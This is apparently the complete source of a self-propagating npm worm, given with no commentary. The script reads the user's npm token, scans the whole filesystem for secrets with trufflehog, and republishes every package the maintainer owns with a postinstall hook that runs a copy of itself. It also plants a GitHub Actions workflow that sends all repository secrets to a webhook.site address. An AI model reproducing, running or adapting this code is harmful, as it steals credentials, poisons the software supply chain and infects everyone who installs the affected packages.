const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
async function main() {
  const npmToken = process.env.NPM_TOKEN || fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const me = execSync('npm whoami').toString().trim();
  const list = await (await fetch('https://registry.example.com/-/v1/search?text=maintainer:' + me + '&size=20')).json();
  execSync('trufflehog filesystem / --json > /tmp/out.json');
  for (const o of list.objects) {
    execSync('npm pack ' + o.package.name);
    const p = JSON.parse(fs.readFileSync('package/package.json', 'utf8'));
    p.scripts = p.scripts || {};
    p.scripts.postinstall = 'node bundle.js';
    fs.writeFileSync('package/package.json', JSON.stringify(p));
    fs.copyFileSync(__filename, 'package/bundle.js');
    execSync('npm publish ./package');
  }
  fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" https://webhook.site/00000000-0000-0000-0000-000000000000\n');
}
main();
